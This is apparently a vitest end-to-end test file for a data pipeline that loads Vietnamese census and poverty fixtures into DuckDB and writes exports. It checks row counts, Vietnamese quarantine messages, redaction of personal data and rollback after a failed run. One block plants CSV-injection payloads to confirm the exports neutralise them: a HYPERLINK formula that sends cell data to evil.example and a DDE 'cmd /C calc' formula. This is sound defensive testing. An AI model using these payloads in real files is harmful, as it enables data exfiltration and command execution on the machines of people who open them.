// The pipeline end to end on the connectors' fixture files (a real sources folder, a real DuckDB
// file), and the guarantee that a failed run leaves the previous outputs exactly as they were.
import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Db } from '@dtts/db';
import { INGEST_TABLES } from '@dtts/warehouse';
import type { RunManifest } from './manifest.ts';
import { runPipeline } from './run.ts';

const repo = join(import.meta.dirname, '../../..');
// What `pnpm pipeline` runs: the launcher of the cached bundle of cli.ts.
const launcher = join(repo, 'pipelines/annual/launch.mjs');
const work = mkdtempSync(join(tmpdir(), 'dtts-pipeline-'));
const sources = join(work, 'sources');
const quiet = { info: () => {}, progress: () => {} };
const config = (outDir: string, sourcesDir = sources) => ({ sourcesDir, usesSample: false, outDir, skipReports: true, hashKey: 'pipeline-test-key-0123' });

interface Expected { files: Record<string, { read: number; loaded: number; quarantined: number; skipped: number }> }
const expectedFiles: Expected['files'] = {};

beforeAll(() => {
  for (const connector of readdirSync(join(repo, 'packages/connectors'))) {
    const fixtures = join(repo, 'packages/connectors', connector, 'fixtures');
    if (!existsSync(join(fixtures, 'expected.json'))) continue;
    for (const entry of readdirSync(fixtures, { withFileTypes: true })) {
      if (entry.isDirectory()) cpSync(join(fixtures, entry.name), join(sources, entry.name), { recursive: true });
    }
    for (const [file, c] of Object.entries((JSON.parse(readFileSync(join(fixtures, 'expected.json'), 'utf8')) as Expected).files)) {
      expectedFiles[file] = { read: c.read, loaded: c.loaded, quarantined: c.quarantined, skipped: c.skipped };
    }
  }
});
afterAll(() => rmSync(work, { recursive: true, force: true }));

describe('pnpm pipeline --skip-reports on the fixtures', () => {
  let manifest: RunManifest;
  const out = join(work, 'out');
  beforeAll(async () => {
    manifest = await runPipeline(config(out), quiet);
  }, 600_000);

  it('writes the warehouse, the exports and the manifest', () => {
    for (const f of ['warehouse.duckdb', 'run-manifest.json', 'exports/indicator_values.csv', 'exports/indicator_values.parquet', 'exports/quarantine.csv', 'exports/bao-cao.xlsx']) {
      expect(existsSync(join(out, f)), f).toBe(true);
    }
    expect(manifest.status).toBe('succeeded');
    expect(JSON.parse(readFileSync(join(out, 'run-manifest.json'), 'utf8')).runId).toBe(manifest.runId);
    expect(manifest.stages.map((s) => s.name)).toEqual(['plan', 'ingest', 'reference', 'warehouse', 'exports', 'public numbers', 'changes', 'appendix']);
  });

  it('reconciles every file with the counts computed by hand in the fixtures', () => {
    const got = Object.fromEntries(manifest.files.map((f) => [f.path, f.rows]));
    expect(got).toEqual(expectedFiles);
    for (const f of manifest.files) expect(f.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it('exports the quarantine with the header of OUTPUTS.md, one line per quarantined row or value', async () => {
    const text = readFileSync(join(out, 'exports/quarantine.csv'), 'utf8');
    expect(text.startsWith('\uFEFF'), 'UTF-8 BOM, so Excel reads the Vietnamese as UTF-8').toBe(true);
    const lines = text.slice(1).trim().split('\n');
    expect(lines[0]).toBe('source,table,file,row,column,value,reason,code,action');
    const db = await Db.open(join(out, 'warehouse.duckdb'));
    try {
      const n = await db.one<{ n: number }>('SELECT count(*) AS n FROM ingest.quarantine');
      expect(lines.length - 1).toBe(n?.n);
      const rejectedRows = await db.one<{ n: number }>(`SELECT count(DISTINCT (file, "row")) AS n FROM ingest.quarantine WHERE action = 'row_rejected'`);
      expect(rejectedRows?.n).toBe(manifest.files.reduce((k, f) => k + f.rows.quarantined, 0));
    } finally {
      db.close();
    }
  });

  it('creates the ingest tables exactly as the warehouse contract (docs/warehouse-tables.md) declares them', async () => {
    // Both sides declare these shapes (the connectors for loading, the warehouse for building without
    // a source); the warehouse only adds a missing table, so a drift would otherwise pass unnoticed.
    const db = await Db.open(join(out, 'warehouse.duckdb'));
    try {
      for (const [table, columns] of Object.entries(INGEST_TABLES)) {
        const declared = columns.split(/,(?![^(]*\))/).map((c) => c.trim().replace(/\s+/g, ' ').replaceAll('"', '').toLowerCase()).sort();
        const got = await db.all<{ c: string }>(
          `SELECT lower(column_name || ' ' || data_type) AS c FROM information_schema.columns WHERE table_schema = 'ingest' AND table_name = ?`, [table]);
        expect(got.map((r) => r.c).sort(), table).toEqual(declared);
      }
    } finally {
      db.close();
    }
  });

  it('keeps personal data out of the exports', () => {
    const csv = readFileSync(join(out, 'exports/indicator_values.csv'), 'utf8');
    for (const value of ['Hoàng Văn Sơn', '010203004005', 'Lý Thị Mai']) expect(csv).not.toContain(value);
    const quarantine = readFileSync(join(out, 'exports/quarantine.csv'), 'utf8');
    expect(quarantine).not.toContain('12345,');
    expect(quarantine).toContain('12*45');
  });

  it('gives each quarantine reason in Vietnamese with its code beside it', async () => {
    const db = await Db.open();
    try {
      const path = join(out, 'exports/quarantine.csv').replaceAll("'", "''");
      const rows = await db.all<{ file: string; row: number; column: string; reason: string; code: string }>(
        `SELECT file, "row", "column", reason, code FROM read_csv('${path}', all_varchar = true) ORDER BY file, "row"`);
      const at = (file: string, row: number) => rows.find((r) => r.file === file && Number(r.row) === row);
      // Worded by hand from SOURCES.md §3 (the reference date of the 2024 census is 1 Oct 2024).
      expect(at('census/2024/ho_xa_bao_ha.xlsx', 9)).toMatchObject({ column: 'ma_xa', code: 'commune_code_unknown', reason: 'Mã xã không có trong danh mục tại ngày 01/10/2024' });
      expect(at('poverty/2024/ho_ngheo_xa_bao_ha.csv', 11)).toMatchObject({ code: 'number_below', reason: 'Giá trị nhỏ hơn 1' });
      expect(at('poverty/2024/ho_ngheo_xa_bao_ha.csv', 12)).toMatchObject({ code: 'duplicate_key', reason: 'Trùng ma_ho: đã nạp từ tệp poverty/2024/ho_ngheo_xa_bao_ha.csv, dòng 5' });
      expect(rows.length).toBeGreaterThan(20);
      for (const r of rows) {
        expect(r.code, `${r.file} ${r.row}`).toMatch(/^[a-z_]+$/);
        expect(r.reason, `${r.file} ${r.row}`).not.toBe(r.code);
        expect(r.reason, `${r.file} ${r.row}`).not.toMatch(/\b(is|not|the|of|missing|duplicate|unknown|below|above|after)\b/);
      }
    } finally {
      db.close();
    }
  });
});

describe('hostile cells in the sources', () => {
  // OWASP's CSV-injection payloads, each in a column whose value the quarantine shows.
  const payloads = { ma_xa: '-2+3', thu_nhap_binh_quan: '=HYPERLINK("http://evil.example/?"&A1,"click")', dien_luoi: `@SUM(1+1)*cmd|' /C calc'!A0` };
  const hostile = join(work, 'hostile');
  const out = join(work, 'hostile-out');
  beforeAll(async () => {
    cpSync(join(repo, 'packages/connectors/census/fixtures/census/2025'), join(hostile, 'census/2025'), { recursive: true });
    const csv = (cells: string[]) => cells.map((c) => `"${c.replaceAll('"', '""')}"`).join(',');
    writeFileSync(join(hostile, 'census/2025/ho_xa_phuc_khanh.csv'), [
      'ma_ho,ma_xa,ten_xa,thon,thu_nhap_binh_quan,dien_luoi,nuoc_hop_ve_sinh,vung_nguy_co,da_bo_tri',
      csv(['P001', payloads.ma_xa, '', 'Thôn 1', '1000000', '1', '1', '0', '0']),
      csv(['P002', '02998', '', 'Thôn 1', payloads.thu_nhap_binh_quan, payloads.dien_luoi, '1', '0', '0']),
    ].join('\n'));
    await runPipeline(config(out, hostile), quiet);
  }, 120_000);

  it('quarantines them with a leading quote, so no spreadsheet runs them, and keeps the text readable', () => {
    const text = readFileSync(join(out, 'exports/quarantine.csv'), 'utf8');
    const line = (column: string) => text.split('\n').find((l) => l.includes('ho_xa_phuc_khanh.csv') && l.includes(`,${column},`)) ?? '';
    expect(line('ma_xa')).toContain(`,'-2+3,Mã xã không có trong danh mục`);
    expect(line('thu_nhap_binh_quan')).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",Không phải là số,not_a_number,value_blanked`);
    expect(line('dien_luoi')).toContain(`,'@SUM(1+1)*cmd|' /C calc'!A0,"Không phải giá trị có/không`);
    // No cell of any line starts a formula.
    for (const l of text.slice(1).split('\n')) for (const cell of l.split(',')) expect(cell, l).not.toMatch(/^"?[=+@\t\r-]/);
  });
});

describe('a failed run', () => {
  it('names the bad file and leaves the previous outputs exactly as they were', async () => {
    const out = join(work, 'out-keep');
    await runPipeline(config(out), quiet);
    const before = readFileSync(join(out, 'run-manifest.json'), 'utf8');
    const filesBefore = readdirSync(out, { recursive: true }).sort();

    const broken = join(work, 'broken');
    cpSync(sources, broken, { recursive: true });
    writeFileSync(join(broken, 'census/2024/nhan_khau_xa_hong.xlsx'), Buffer.from('PK\u0003\u0004 truncated'));
    await expect(runPipeline(config(out, broken), quiet)).rejects.toThrow(/census\/2024\/nhan_khau_xa_hong\.xlsx: not a readable \.xlsx workbook/);

    expect(readdirSync(out, { recursive: true }).sort()).toEqual(filesBefore);
    expect(readFileSync(join(out, 'run-manifest.json'), 'utf8')).toBe(before);
    expect(readdirSync(work).filter((f) => f.includes('.building-'))).toEqual([]);
  }, 600_000);

  it('exits non-zero from the command line and says what failed where', () => {
    const missing = join(work, 'no-such-sources');
    const result = spawnSync(process.execPath, [launcher, '--sources', missing, '--out', join(work, 'out-cli'), '--skip-reports'], { encoding: 'utf8' });
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('no source files found');
    expect(existsSync(join(work, 'out-cli'))).toBe(false);
  });

  it('warns when --years leaves out the 2020 baseline', async () => {
    const result = spawnSync(process.execPath, [launcher, '--sources', sources, '--out', join(work, 'out-2025'), '--years', '2025', '--skip-reports'], { encoding: 'utf8' });
    expect(result.status).toBe(0);
    expect(result.stdout).toContain('--years leaves out 2020, the baseline');
    // the workbook and the Arrow file, written by the exceljs and apache-arrow bundled with the CLI (launch.mjs)
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(join(work, 'out-2025', 'exports', 'bao-cao.xlsx'));
    expect(workbook.worksheets[0]?.name).toBe('Tổng hợp');
    expect(workbook.worksheets.length).toBeGreaterThan(1);
    expect(readFileSync(join(work, 'out-2025', 'exports', 'indicator_values.arrow')).subarray(0, 6).toString()).toBe('ARROW1');
  });

  it('rejects a malformed option with usage', () => {
    const result = spawnSync(process.execPath, [launcher, '--years', '20x5'], { encoding: 'utf8' });
    expect(result.status).toBe(2);
    expect(result.stderr).toContain('--years 20x5');
  });
});
